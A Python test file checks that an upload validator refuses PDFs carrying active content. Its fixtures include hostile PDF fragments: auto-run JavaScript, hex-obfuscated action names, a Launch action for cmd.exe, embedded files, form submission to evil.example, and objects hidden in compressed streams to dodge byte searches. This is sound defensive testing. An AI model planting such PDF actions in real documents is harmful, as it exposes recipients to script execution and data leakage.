"""PDFs: only what can be looked at, whole, and nothing behind it."""

from __future__ import annotations

import io
import zlib

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import NameObject, TextStringObject

from papers.checking import check_upload
from papers.errors import InvalidFile
from papers.pdfs import MAX_OBJECTS, MAX_PAGES
from tests.papers.files import bill, damaged_after, dictionary, raw_pdf, written


def test_a_bill_is_stored_as_it_is() -> None:
    data = bill(3)
    taken = check_upload(data, "bill.pdf")
    assert (taken.data, taken.pages) == (data, 3)


@pytest.mark.parametrize(
    "harmless",
    [
        raw_pdf(root="/OpenAction [3 0 R /Fit]"),
        raw_pdf(root="/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
        raw_pdf(
            "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://carrier.example) >> >>"
        ),
        raw_pdf("<< /S /Named /N /NextPage >>"),
        raw_pdf(root="/AcroForm << /Fields [] /NeedAppearances true >>"),
        raw_pdf("<< /Type /Group /S /Transparency >>", "(the word /JS in a text)"),
        raw_pdf() + b"\r\n\x00 ",
    ],
    ids=["view", "goto", "link", "named", "form", "text", "space"],
)
def test_what_bills_have_is_taken(harmless: bytes) -> None:
    assert check_upload(harmless, "bill.pdf").pages == 1


ACTIVE = {
    "script when opened": raw_pdf(root="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "script by reference": raw_pdf("<< /S /JavaScript /JS 5 0 R >>", "(app.alert(1))"),
    "script in names": raw_pdf(root="/Names << /JavaScript << /Names [(x) 4 0 R] >> >>"),
    "script when closed": raw_pdf(root="/AA << /WC << /S /JavaScript /JS (x) >> >>"),
    "script in a form": raw_pdf("<< /FT /Tx /AA << /K << /S /JavaScript /JS (x) >> >> >>"),
    "script spelled in hex": raw_pdf("<< /S /J#61va#53cript /#4aS (x) >>"),
    "script with a bare key": raw_pdf("<< /Next << /JS (x) >> >>"),
    "command": raw_pdf("<< /S /Launch /F (cmd.exe) >>"),
    "attached file": raw_pdf("<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"),
    "attached files": raw_pdf(root="/Names << /EmbeddedFiles << /Names [] >> >>"),
    "attached by a note": raw_pdf("<< /Type /Annot /Subtype /FileAttachment >>"),
    "embedded stream": raw_pdf("<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"),
    "collection": raw_pdf(root="/Collection << /View /D >>"),
    "media": raw_pdf("<< /Type /Annot /Subtype /RichMedia >>"),
    "movie": raw_pdf("<< /Type /Annot /Subtype /Movie >>"),
    "screen": raw_pdf("<< /Type /Annot /Subtype /Screen >>"),
    "3D": raw_pdf("<< /Type /Annot /Subtype /3D >>"),
    "XFA": raw_pdf(root="/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>"),
    "sends itself": raw_pdf("<< /S /SubmitForm /F (http://evil.example) >>"),
    "loads data": raw_pdf("<< /S /ImportData /F (x.fdf) >>"),
    "another file": raw_pdf("<< /S /GoToR /F (//evil.example/x.pdf) /D [0 /Fit] >>"),
    "an attached file's page": raw_pdf("<< /S /GoToE /T << /R /C >> >>"),
    "deep": raw_pdf("<< /A " + "[ " * 60 + "<< /JS (x) >>" + " ]" * 60 + " >>"),
    "a stream elsewhere": raw_pdf("<< /Length 0 /F (//evil.example/x) >>\nstream\n\nendstream"),
}


@pytest.mark.parametrize("data", ACTIVE.values(), ids=ACTIVE.keys())
def test_a_pdf_that_does_something_is_refused(data: bytes) -> None:
    with pytest.raises(InvalidFile, match=r"the PDF contains .*print it into a new PDF"):
        check_upload(data, "bill.pdf")


def in_object_streams(data: bytes) -> bytes:
    """The same document, its objects compressed so that a search of the bytes finds nothing."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    plain = written(writer)
    bodies, first = [], b""
    reader = PdfReader(io.BytesIO(plain))
    numbers = sorted(reader.xref[0])
    for number in numbers:
        out = io.BytesIO()
        found = reader.get_object(number)
        assert found is not None
        found.write_to_stream(out)
        bodies.append(out.getvalue())
    place = 0
    for number, body in zip(numbers, bodies, strict=True):
        first += b"%d %d " % (number, place)
        place += len(body) + 1
    return _with_object_stream(numbers, first, b"\n".join(bodies), reader)


def _with_object_stream(
    numbers: list[int], first: bytes, bodies: bytes, reader: PdfReader
) -> bytes:
    packed = zlib.compress(first + bodies)
    holder, table = max(numbers) + 1, max(numbers) + 2
    out = bytearray(b"%PDF-1.7\n")
    at_holder = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (holder, len(numbers), len(first), len(packed))
    )
    out += packed + b"\nendstream\nendobj\n"
    at_table = len(out)
    rows = b"\x00\x00\x00\x00" * min(numbers)
    listed = dict.fromkeys(range(min(numbers), holder), b"\x00\x00\x00\x00")
    listed |= {
        number: b"\x02" + holder.to_bytes(2, "big") + bytes((index,))
        for index, number in enumerate(numbers)
    }
    rows += b"".join(listed.values())
    rows += b"\x01" + at_holder.to_bytes(2, "big") + b"\x00"
    rows += b"\x01" + at_table.to_bytes(2, "big") + b"\x00"
    root = reader.trailer.raw_get("/Root").idnum
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 2 1] /Root %d 0 R /Length %d >>\nstream\n" % (
        table,
        table + 1,
        root,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at_table
    return bytes(out)


def test_objects_in_object_streams_are_read() -> None:
    assert check_upload(in_object_streams(bill(2)), "bill.pdf").pages == 2
    for harm in (
        bill(OpenAction=dictionary(S=NameObject("/JavaScript"), JS=TextStringObject("x"))),
        bill(Hidden=dictionary(S=NameObject("/Launch"))),
        bill(AcroForm=dictionary(XFA=TextStringObject("x"))),
    ):
        hidden = in_object_streams(harm)
        assert b"JavaScript" not in hidden
        with pytest.raises(InvalidFile, match="the PDF contains"):
            check_upload(hidden, "bill.pdf")


def test_an_object_that_the_file_does_not_list_is_found() -> None:
    whole = raw_pdf()
    place = whole.index(b"xref\n0 4")
    orphan = b"9 0 obj\n<< /S /JavaScript >>\nendobj\n"
    data = (
        whole[:place]
        + orphan
        + whole[place:].replace(b"startxref\n%d" % place, b"startxref\n%d" % (place + len(orphan)))
    )
    with pytest.raises(InvalidFile, match="a script, a command or an attached file"):
        check_upload(data, "bill.pdf")


@pytest.mark.parametrize("password", ["", "secret"])
@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
def test_an_encrypted_pdf_is_refused(password: str, algorithm: str) -> None:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(bill())))
    writer.encrypt(password, "owner", algorithm=algorithm)
    with pytest.raises(InvalidFile, match="encrypted"):
        check_upload(written(writer), "bill.pdf")


def test_a_pdf_ends_where_it_ends() -> None:
    with pytest.raises(InvalidFile, match="something follows the end"):
        check_upload(bill() + b"<html>", "bill.pdf")
    with pytest.raises(InvalidFile, match="cut off"):
        check_upload(damaged_after(bill(), 0.9), "bill.pdf")


@pytest.mark.parametrize(
    "data",
    [
        raw_pdf(kids="[2 0 R]"),
        raw_pdf("<< /Type /Pages /Kids [2 0 R] /Count 1 >>", kids="[4 0 R]"),
        raw_pdf(kids="[3 0 R 3 0 R 2 0 R]", count=3),
        raw_pdf(kids="[]", count=0),
        raw_pdf(kids="[]", count=1_000_000_000),
        raw_pdf(kids="4", count=1),
        raw_pdf("<< /Type /Page /MediaBox [0 0 0 0] >>", kids="[4 0 R]"),
        b"%PDF-1.7\n%%EOF",
        b"%PDF-1.7\nstartxref\n99999999\n%%EOF",
        b"%PDF-1.7\nstartxref\n0\n%%EOF",
        b"%PDF-1.7\ntrailer << /Root 1 0 R /Prev 0 >>\nstartxref\n9\n%%EOF",
    ],
    ids=range(11),
)
def test_a_pdf_without_pages_is_refused(data: bytes) -> None:
    with pytest.raises(InvalidFile):
        check_upload(data, "bill.pdf")


def test_a_pdf_with_too_many_pages_is_refused() -> None:
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1 1] >>"
    kids = " ".join(f"{number} 0 R" for number in range(4, MAX_PAGES + 5))
    data = raw_pdf(*[page] * (MAX_PAGES + 1), kids=f"[{kids}]", count=MAX_PAGES + 1)
    with pytest.raises(InvalidFile, match="more than 1000 pages"):
        check_upload(data, "bill.pdf")


def test_a_pdf_with_too_many_objects_is_refused_before_they_are_read() -> None:
    with pytest.raises(InvalidFile, match="too many parts"):
        check_upload(raw_pdf(*["null"] * MAX_OBJECTS), "bill.pdf")
